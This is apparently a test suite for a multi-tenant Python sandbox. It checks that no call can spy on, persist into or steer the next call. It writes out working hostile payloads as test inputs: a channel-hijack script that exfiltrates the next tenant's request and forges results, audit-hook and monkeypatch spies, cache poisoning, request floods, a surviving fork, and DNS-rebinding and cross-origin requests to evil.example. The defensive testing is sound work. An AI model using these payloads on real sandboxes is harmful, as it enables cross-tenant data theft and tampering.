/**
 * One call must never see or steer another (issue 10). Every attack here runs on a pool with ONE
 * worker, so the hostile call and the calls after it share a worker process; each test checks the
 * call after the attack gets exactly the answer a fresh sandbox gives. Then the host's own
 * defences against a worker that lies (a scripted hostile worker process), the HTTP server's
 * checks against browsers, and a property test: a random sequence of hostile and benign calls,
 * every benign answer equal to its answer on a fresh pool.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { mulberry32 } from "../src/util/prng.ts";
import { HttpProxy } from "../src/sandbox/http-proxy.ts";
import { type LocalSandbox, createLocalSandbox } from "../src/sandbox/local-sandbox.ts";
import { type SandboxServer, serveSandbox } from "../src/sandbox/server.ts";
import type { ExecuteRequest } from "../src/sandbox/types.ts";
import { findPython } from "../src/sandbox/worker-launch.ts";
import { WorkerProcess } from "../src/sandbox/worker-process.ts";

const SECRET = "tenant-b-secret-51c2e9";

// A loopback "retriever" that records every body it gets and how many requests it had at once.
let bodies: string[] = [];
let active = 0;
let maxActive = 0;
let sink: ReturnType<typeof Bun.serve>;
let sinkUrl = "";
let pool: LocalSandbox;

beforeAll(async () => {
  sink = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(req) {
      active++;
      maxActive = Math.max(maxActive, active);
      bodies.push(await req.text());
      await Bun.sleep(20);
      active--;
      return Response.json({ ok: true });
    },
  });
  sinkUrl = `http://127.0.0.1:${sink.port}`;
  pool = await createLocalSandbox({ workers: 1, memoryMb: 256, maxTimeout: 10, allowUrls: [sinkUrl] });
}, 120_000);

afterAll(async () => {
  await pool?.close();
  sink?.stop(true);
});

const VICTIM: ExecuteRequest = { env: `API_KEY = '${SECRET}'\ndef lookup(q):\n    return 'honest ' + q\n`, call: "lookup('x')" };
const VICTIM_ANSWER = { output: "", result: "honest x", error: null };

/**
 * Takeover: reach whatever speaks to the host (the requests transport's bound object, frames, the
 * channel device), answer this call early, then read the NEXT tenant's request, exfiltrate it to
 * an allow-listed URL and answer it with a forged result. Every route is tried; none may work.
 */
const takeover = (url: string): ExecuteRequest => ({
  env: `
import base64, json, os, sys
import requests
def _routes():
    h = getattr(requests._transport, '__self__', None)
    if h is not None and hasattr(h, 'chan'):
        yield h.chan, getattr(h, 'call_id', None)
    f = sys._getframe()
    while f is not None:
        s = f.f_locals.get('self')
        if s is not None and hasattr(s, 'chan'):
            yield s.chan, getattr(s, 'call_id', None)
        f = f.f_back
class _Dev:
    def __init__(self):
        self.fd = os.open('/dev/recall', os.O_RDWR)
        self.buf = b''
    def send(self, o):
        os.write(self.fd, (json.dumps(o) + '\\n').encode())
    def recv(self):
        while b'\\n' not in self.buf:
            chunk = os.read(self.fd, 1 << 20)
            if not chunk:
                raise EOFError('no more')
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b'\\n')
        return json.loads(line)
def attack():
    tried = []
    routes = list(_routes())
    try:
        routes.append((_Dev(), None))
    except OSError as e:
        tried.append(str(e))
    for chan, cid in routes:
        try:
            chan.send({'t': 'answer', 'id': cid, 'output': '', 'result_json': '"early"', 'error': None, 'limit': None})
            chan.send({'t': 'idle'})
            nxt = chan.recv()
            line = json.dumps(nxt)
            chan.send({'t': 'http', 'id': nxt.get('id'), 'method': 'POST', 'url': ${JSON.stringify(url)}, 'headers': {},
                       'body_b64': base64.b64encode(line.encode()).decode(), 'timeout': 5})
            chan.recv()
            chan.send({'t': 'answer', 'id': nxt.get('id'), 'output': '', 'result_json': '"pwned"', 'error': None, 'limit': None})
            chan.send({'t': 'idle'})
            return 'took over'
        except BaseException as e:
            tried.append(type(e).__name__)
    return tried
`,
  call: "attack()",
  timeout: 3,
});

async function expectTakeoverFails(sb: LocalSandbox): Promise<void> {
  bodies = [];
  await sb.execute(takeover(sinkUrl));
  const victim = await sb.execute(VICTIM);
  await Bun.sleep(200);
  expect(victim).toEqual(VICTIM_ANSWER);
  expect(bodies.join("\n")).not.toContain(SECRET);
  expect((await sb.execute({ env: "", call: "'next'" })).result).toBe("next");
}

/** Routes by which a call used to leave something behind for the next one; each probe must read as on a fresh sandbox. */
interface Persistence {
  name: string;
  hostile: ExecuteRequest;
  /** Optional victim call between the attack and the probe (the attack spies on it). */
  victim?: boolean;
  probe: ExecuteRequest;
  clean: unknown;
}

const PERSISTENCE: Persistence[] = [
  {
    name: "an audit hook that logs later tenants' compiled sources",
    hostile: {
      env: "import sys\nLOG = []\ndef spy(event, args):\n    if event in ('compile', 'exec'):\n        LOG.append(repr(args)[:4000])\n    if event == 'recall.spy.dump':\n        raise RuntimeError('SPY ' + ' | '.join(LOG))\ntry:\n    sys.addaudithook(spy)\nexcept Exception:\n    pass",
      call: "1",
    },
    victim: true,
    probe: { env: "import sys", call: "sys.audit('recall.spy.dump') or 'clean'" },
    clean: "clean",
  },
  {
    name: "a spy in place of json.JSONDecoder.decode",
    hostile: { env: "import json\njson.JSONDecoder.decode = lambda self, s, *a, **k: 'spied'", call: "json.loads('[1]')" },
    probe: { env: "import json", call: "json.loads('[1, 2]')" },
    clean: [1, 2],
  },
  {
    name: "a poisoned re cache",
    hostile: {
      env: "import re\nbad = re.compile('zzz')\nfor name in ('_cache', '_cache2'):\n    cache = getattr(re, name, None)\n    if isinstance(cache, dict):\n        for k in list(cache):\n            cache[k] = bad\n        cache[(str, 'abc', 0)] = bad",
      call: "1",
    },
    probe: { env: "import re", call: "bool(re.match('abc', 'abc'))" },
    clean: true,
  },
  {
    name: "a sys.monitoring tool",
    hostile: { env: "import sys\nif hasattr(sys, 'monitoring'):\n    sys.monitoring.use_tool_id(3, 'spy')", call: "1" },
    probe: { env: "import sys", call: "sys.monitoring.get_tool(3) if hasattr(sys, 'monitoring') else None" },
    clean: null,
  },
  {
    name: "a gc callback",
    hostile: { env: "import gc\ngc.callbacks.append(lambda phase, info: None)", call: "1" },
    probe: { env: "import gc", call: "len(gc.callbacks)" },
    clean: 0,
  },
  {
    name: "a compile-cache entry planted with a str subclass's chosen hash and equality",
    hostile: {
      env: `import sys
VICTIM = ${JSON.stringify(VICTIM.env)}
class Evil(str):
    def __hash__(self):
        return hash(VICTIM)
    def __eq__(self, other):
        return True
def plant():
    f = sys._getframe()
    while f is not None:
        c = f.f_globals.get('_compile')
        if c is not None:
            c(Evil("def lookup(q):\\n    return 'poisoned'\\n"), '<env>', 'exec')
            return 'planted'
        f = f.f_back
    return 'no cache'`,
      call: "plant()",
    },
    probe: VICTIM,
    clean: "honest x",
  },
  {
    name: "builtins and a module attribute",
    hostile: { env: "import builtins, colorsys\nbuiltins.len = lambda x: 42\ncolorsys.ONE_THIRD = 0", call: "1" },
    probe: { env: "import colorsys", call: "[len([]), colorsys.ONE_THIRD > 0]" },
    clean: [0, true],
  },
];

const PYODIDE_FILES = ["/home/web_user/planted", "/dev/planted", "/dev/shm/planted", "/lib/planted", "/tmp/planted", "/home/sandbox/planted"];
PERSISTENCE.push({
  name: "modules and files written outside the scratch directories",
  hostile: {
    env: `import os, sys
def plant():
    done = []
    site = [p for p in sys.path if p.endswith('site-packages')][0]
    for path in ${JSON.stringify(PYODIDE_FILES)} + [os.path.join(site, 'recall_planted.py')]:
        try:
            with open(path, 'w') as f:
                f.write('VALUE = 1\\n')
            done.append(path)
        except OSError:
            pass
    return done`,
    call: "plant()",
  },
  probe: {
    env: "import os, importlib.util",
    call: `[os.path.exists(p) for p in ${JSON.stringify(PYODIDE_FILES)}] + [importlib.util.find_spec('recall_planted') is None]`,
  },
  clean: [...PYODIDE_FILES.map(() => false), true],
});

describe("pyodide: nothing a call does reaches the next call on the same worker", () => {
  test("takeover through the harness, its frames or the channel device fails", async () => {
    await expectTakeoverFails(pool);
  }, 60_000);

  for (const p of PERSISTENCE) {
    test(`persistence: ${p.name}`, async () => {
      await pool.execute(p.hostile);
      if (p.victim) expect(await pool.execute(VICTIM)).toEqual(VICTIM_ANSWER);
      const probe = await pool.execute(p.probe);
      expect(probe).toEqual({ output: "", result: p.clean, error: null });
    }, 120_000);
  }

  test("test modules and sub-interpreters are absent; audit hooks cannot be added", async () => {
    for (const m of ["_testcapi", "_testinternalcapi", "_testbuffer", "_testclinic", "_testlimitedcapi", "_xxtestfuzz", "_remote_debugging"]) {
      expect((await pool.execute({ env: `import ${m}`, call: "1" })).error).toBe(`module '${m}' is not available in the sandbox`);
    }
    const loaded = await pool.execute({ env: "import sys", call: "sorted(m for m in sys.modules if m.startswith(('_test', '_xxtest', '_remote')))" });
    expect(loaded.result).toEqual([]);
    expect((await pool.execute({ env: "import sys", call: "sys.addaudithook(lambda e, a: None)" })).error).toBe("adding audit hooks is disabled in the sandbox");
  }, 120_000);
});

describe("pyodide: caps the host enforces whatever the worker says", () => {
  test("a str subclass whose __len__ is 0 cannot print past the output cap", async () => {
    const a = await pool.execute({ env: "import sys\nclass S(str):\n    def __len__(self):\n        return 0", call: "sys.stdout.write(S('x' * 2_000_000))" });
    expect(a).toEqual({ output: "", result: null, error: "output limit exceeded: more than 1048576 characters printed" });
  }, 120_000);

  // Both attacks speak through every route to the host a call could find: the harness's channel with
  // its real call id (how they worked before the harness moved out of Python) and the device itself.
  const routes = `import os, json, base64, requests
def routes():
    out = []
    h = getattr(requests._transport, '__self__', None)
    if h is not None and hasattr(h, 'chan'):
        out.append((lambda o, c=h.chan: c.send(o), h.call_id))
    fd = os.open('/dev/recall', os.O_RDWR)
    out.append((lambda o, fd=fd: os.write(fd, (json.dumps(o) + '\\n').encode()), None))
    return out
`;

  test("a forged answer cannot skip the result cap", async () => {
    for (const result of [`'"' + 'x' * 5_000_000 + '"'`, "'1' * 10_000_000", "'9' * 100_000"]) {
      const forge = `${routes}
def forge():
    for send, cid in routes():
        send({'t': 'answer', 'id': cid, 'output': '', 'result_json': ${result}, 'error': None, 'limit': None})
    for other in range(3, 64):
        try:
            os.close(other)
        except OSError:
            pass
    return 'forged'`;
      // The host must not stall on what it is sent (10M digits once froze its event loop for seconds).
      let last = performance.now();
      let stall = 0;
      const tick = setInterval(() => {
        const now = performance.now();
        stall = Math.max(stall, now - last);
        last = now;
      }, 10);
      // Building 10 MB in Pyodide can pass the 5 s default on a loaded machine; the cap, not the speed, is under test.
      const a = await pool.execute({ env: forge, call: "forge()", timeout: 30 });
      clearInterval(tick);
      expect(stall).toBeLessThan(1000);
      expect(a).toEqual({ output: "", result: null, error: "result too large: its JSON is more than 1048576 bytes" });
      expect((await pool.execute({ env: "", call: "'after'" })).result).toBe("after");
    }
  }, 300_000);

  test("requests written straight to the channel run one at a time", async () => {
    maxActive = 0;
    bodies = [];
    const flood = `${routes}
def flood():
    for send, cid in routes():
        for k in range(30):
            send({'t': 'http', 'id': cid, 'method': 'POST', 'url': ${JSON.stringify(sinkUrl)}, 'headers': {}, 'body_b64': base64.b64encode(b'x' * 100000).decode(), 'timeout': 5})
    return 'sent'`;
    await pool.execute({ env: flood, call: "flood()", timeout: 5 });
    await Bun.sleep(300);
    expect(maxActive).toBeLessThanOrEqual(1);
    expect((await pool.execute({ env: "", call: "'after'" })).result).toBe("after");
  }, 120_000);

  test("a timeout below 0.1 s is raised to 0.1 s instead of killing the worker", async () => {
    const before = pool.stats().replaced.timeout ?? 0;
    expect(await pool.execute({ env: "", call: "6 * 7", timeout: 1e-6 })).toEqual({ output: "", result: 42, error: null });
    expect(pool.stats().replaced.timeout ?? 0).toBe(before);
  }, 120_000);
});

describe("the host trusts nothing a worker says beyond one answer for its call", () => {
  let dir = "";
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "recall-liar-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** A worker process that speaks the protocol, then does `onCall(send, call)` with each call message. */
  function liar(onCall: string): WorkerProcess {
    const script = join(dir, `liar-${Math.random().toString(36).slice(2)}.ts`);
    writeFileSync(
      script,
      `const send = (o: unknown) => process.stdout.write(JSON.stringify(o) + "\\n");
let buf = "";
send({ t: "ready", python: "liar" });
for await (const chunk of Bun.stdin.stream()) {
  buf += new TextDecoder().decode(chunk);
  let i;
  while ((i = buf.indexOf("\\n")) >= 0) {
    const msg = JSON.parse(buf.slice(0, i));
    buf = buf.slice(i + 1);
    if (msg.t === "call") { ${onCall} }
  }
}
`,
    );
    return new WorkerProcess({
      launch: { argv: [process.execPath, script], env: {}, home: "/tmp", scratch: [] },
      init: {},
      maxLineBytes: 64 << 20,
      rssGrowthLimitBytes: 0,
      startTimeoutMs: 30_000,
      outputLimit: 1000,
      resultLimit: 1000,
      proxy: new HttpProxy({ allowUrls: [sinkUrl], maxTimeoutMs: 5000, maxResponseBytes: 1 << 20 }),
    });
  }

  test("a second request while one is outstanding ends the worker; the second is never made", async () => {
    bodies = [];
    const w = liar(`for (let k = 0; k < 50; k++) send({ t: "http", id: msg.id, method: "POST", url: ${JSON.stringify(sinkUrl)}, headers: {}, body_b64: btoa("req" + k), timeout: 5 });`);
    await w.ready;
    const o = await w.run("", "1", 5000);
    expect(o.kind).toBe("crash");
    await Bun.sleep(200);
    expect(bodies.length).toBeLessThanOrEqual(1);
    expect(w.alive).toBe(false);
  }, 120_000);

  test("an answer over the output or result cap is a broken limit, whatever the worker claims", async () => {
    const big = liar(`send({ t: "answer", id: msg.id, output: "", result_json: JSON.stringify("x".repeat(5000)), error: null, limit: null });`);
    await big.ready;
    expect(await big.run("", "1", 5000)).toEqual({ kind: "limit", what: "result" });
    const digits = liar(`send({ t: "answer", id: msg.id, output: "", result_json: "9".repeat(5000), error: null, limit: null });`);
    await digits.ready;
    expect(await digits.run("", "1", 5000)).toEqual({ kind: "limit", what: "result" });
    const chatty = liar(`send({ t: "answer", id: msg.id, output: "y".repeat(1001), result_json: null, error: null, limit: null });`);
    await chatty.ready;
    expect(await chatty.run("", "1", 5000)).toEqual({ kind: "limit", what: "output" });
  }, 120_000);

  test("an answer for another id, or a second answer, ends the worker", async () => {
    const wrong = liar(`send({ t: "answer", id: "guess", output: "", result_json: "1", error: null, limit: null });`);
    await wrong.ready;
    expect((await wrong.run("", "1", 5000)).kind).toBe("crash");
    const twice = liar(`send({ t: "answer", id: msg.id, output: "", result_json: "1", error: null, limit: null }); send({ t: "answer", id: msg.id, output: "", result_json: "2", error: null, limit: null });`);
    await twice.ready;
    const first = await twice.run("", "1", 5000);
    expect(first.kind).toBe("answer");
    await Bun.sleep(200);
    expect(twice.alive).toBe(false);
  }, 120_000);
});

describe("HTTP: a web page cannot drive the server", () => {
  let server: SandboxServer;
  beforeAll(async () => {
    // Its own pool: shutting the server down closes the pool it serves.
    server = serveSandbox(await createLocalSandbox({ workers: 1, memoryMb: 128 }), { host: "127.0.0.1", port: 0, maxBodyBytes: 64 * 1024 });
  }, 120_000);
  afterAll(async () => {
    await server?.shutdown();
  });
  const body = JSON.stringify({ env: "", call: "1 + 1" });

  test("a foreign Host (DNS rebinding) is refused", async () => {
    const r = await fetch(`${server.url}/execute`, { method: "POST", headers: { host: "evil.example", "content-type": "application/json" }, body });
    expect(r.status).toBe(403);
    expect(await r.json()).toEqual({ detail: "requests for host 'evil.example' are not served here (allowed: 127.0.0.1, localhost, [::1]; add names with --allow_host)" });
  });

  test("a foreign Origin (cross-site request) is refused", async () => {
    const r = await fetch(`${server.url}/execute`, { method: "POST", headers: { origin: "http://evil.example", "content-type": "application/json" }, body });
    expect(r.status).toBe(403);
    expect(((await r.json()) as { detail: string }).detail).toBe("requests from origin 'http://evil.example' are not served here");
  });

  test("a body that is not declared JSON is refused", async () => {
    const r = await fetch(`${server.url}/execute`, { method: "POST", headers: { "content-type": "text/plain" }, body });
    expect(r.status).toBe(415);
    expect(((await r.json()) as { detail: string }).detail).toBe("Content-Type must be application/json, got 'text/plain'");
  });

  test("loopback names, the server's own origin and JSON are served", async () => {
    const port = new URL(server.url).port;
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`]) {
      const r = await fetch(`${server.url}/execute`, { method: "POST", headers: { host, origin: `http://${host}`, "content-type": "application/json; charset=utf-8" }, body });
      expect(r.status).toBe(200);
      expect(await r.json()).toEqual({ output: "", result: 2, error: null });
    }
  });
});

const BENIGN: ExecuteRequest[] = [
  VICTIM,
  { env: "import json", call: "json.loads('[1, {\"a\": 2}]')" },
  { env: "import re", call: "[bool(re.match('abc', 'abc')), re.sub('b', 'x', 'abc')]" },
  { env: "import builtins, colorsys", call: "[len([1]), colorsys.ONE_THIRD > 0, sorted(k for k in dir(builtins) if not k.startswith('_'))[:5]]" },
  { env: "import os, sys", call: "[os.getcwd(), sorted(os.listdir('.')), sorted(os.listdir('/tmp')), dict(os.environ), sys.getrecursionlimit(), sys.path]" },
  { env: "import os\nopen('/tmp/probe.txt', 'w').write('p')", call: "[os.stat('/tmp/probe.txt').st_ino, os.stat('.').st_ino, sorted(os.listdir('/tmp'))]" },
  { env: "import os\nr, w = os.pipe()", call: "[r, w, os.readlink('/proc/self/fd/%d' % r), os.fstat(r).st_ino]" },
  { env: "import os", call: "[os.umask(0o22), os.umask(0o22)]" },
  { env: "import gc, sys", call: "[len(gc.callbacks), sys.gettrace(), sys.getprofile(), sys.monitoring.get_tool(3)]" },
  { env: "import sys", call: "sorted(m for m in sys.modules if not m.startswith('_'))[:40]" },
  { env: "import os", call: "sorted(os.listdir('/proc/self/fd'))" },
  { env: "import sys", call: "sys.audit('recall.spy.dump') or 'quiet'" },
];

const HOSTILE: ExecuteRequest[] = [
  ...PERSISTENCE.map((p) => p.hostile),
  { env: "import os\nos.chdir('/dev')\nos.environ['X'] = '1'\nos.umask(0o77)", call: "1" },
  { env: "import os\nfds = [os.pipe() for _ in range(5)]\nopen('/tmp/left', 'w')\nos.mkdir('/tmp/d')", call: "1" },
  { env: "import os\nos.close(0)\nos.dup2(os.open('/tmp/x', os.O_CREAT | os.O_WRONLY), 1)", call: "1" },
  { env: "import sys\nsys.setrecursionlimit(50)\nsys.settrace(lambda *a: None)\nsys.path.insert(0, '/tmp')\nsys.modules['json'] = None", call: "1" },
  { env: "import os\nfor name in os.listdir('/tmp'):\n    os.remove('/tmp/' + name)\nos.rename('/lib', '/lib2')", call: "1" },
  { env: "x = bytearray(64 * 1024 * 1024)\nx[-1] = 7", call: "len(x)" },
  { env: "def f():\n    while True:\n        pass", call: "f()", timeout: 0.3 },
];

describe("property: benign answers after any hostile history equal a fresh pool's", () => {
  test("a random sequence of 60 hostile and benign calls on one worker", async () => {
    const expected = new Map<ExecuteRequest, unknown>();
    for (const b of BENIGN) {
      const fresh = await createLocalSandbox({ workers: 1, memoryMb: 256, maxTimeout: 10, allowUrls: [sinkUrl] });
      try {
        expected.set(b, await fresh.execute(b));
      } finally {
        await fresh.close();
      }
    }
    const rand = mulberry32(10);
    const mismatches: string[] = [];
    for (let i = 0; i < 60; i++) {
      const hostile = rand() < 0.5;
      const list = hostile ? HOSTILE : BENIGN;
      const req = list[Math.floor(rand() * list.length)]!;
      const got = await pool.execute(req);
      if (!hostile && !Bun.deepEquals(got, expected.get(req))) mismatches.push(`${i}: ${req.call} -> ${JSON.stringify(got).slice(0, 300)} want ${JSON.stringify(expected.get(req)).slice(0, 300)}`);
    }
    expect(mismatches).toEqual([]);
  }, 600_000);
});

const python = (() => {
  try {
    return findPython();
  } catch {
    return undefined;
  }
})();

// Without bubblewrap (so that the forked child's pid is a host pid): a fresh process, in its own process group, per call.
describe.skipIf(!python)("--engine python: a fresh process per call", () => {
  let py: LocalSandbox;
  beforeAll(async () => {
    py = await createLocalSandbox({ engine: "python", workers: 1, memoryMb: 256, maxTimeout: 10, allowUrls: [sinkUrl], osSandbox: "none", unsafeNoIsolation: true });
  }, 60_000);
  afterAll(async () => {
    await py?.close();
  });

  test("takeover through the harness's channel fails", async () => {
    await expectTakeoverFails(py);
  }, 60_000);

  test("a daemon thread re-planting an __import__ spy, an audit hook, a class patch: all gone for the next call", async () => {
    const plant = `import builtins, json, sys, threading, time
SEEN = []
real = builtins.__import__
def spy(name, *a, **k):
    SEEN.append(name)
    return real(name, *a, **k)
def keep():
    while True:
        builtins.__import__ = spy
        time.sleep(0.001)
threading.Thread(target=keep, daemon=True).start()
json.JSONDecoder.decode = lambda self, s, *a, **k: 'spied'
try:
    sys.addaudithook(lambda e, a: None)
except Exception:
    pass`;
    await py.execute({ env: plant, call: "1" });
    await Bun.sleep(100);
    const probe = await py.execute({ env: "import builtins, json, threading", call: "[type(builtins.__import__).__name__, json.loads('[3]'), threading.active_count()]" });
    expect(probe).toEqual({ output: "", result: ["builtin_function_or_method", [3], 1], error: null });
  }, 60_000);

  test("a forked child does not outlive its call", async () => {
    const fork = `import ctypes, os
def spawn():
    pid = ctypes.CDLL(None).fork()
    if pid == 0:
        import time
        time.sleep(30)
        os._exit(0)
    return pid`;
    const a = await py.execute({ env: fork, call: "spawn()" });
    expect(a.error).toBeNull();
    const pid = a.result as number;
    // Alive and not a zombie (a container's pid 1 may never reap an orphan).
    const alive = (p: number) => {
      try {
        return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${p}/stat`, "utf8"));
      } catch {
        return false;
      }
    };
    const t0 = performance.now();
    while (alive(pid) && performance.now() - t0 < 3000) await Bun.sleep(50);
    expect(alive(pid)).toBe(false);
  }, 60_000);
});
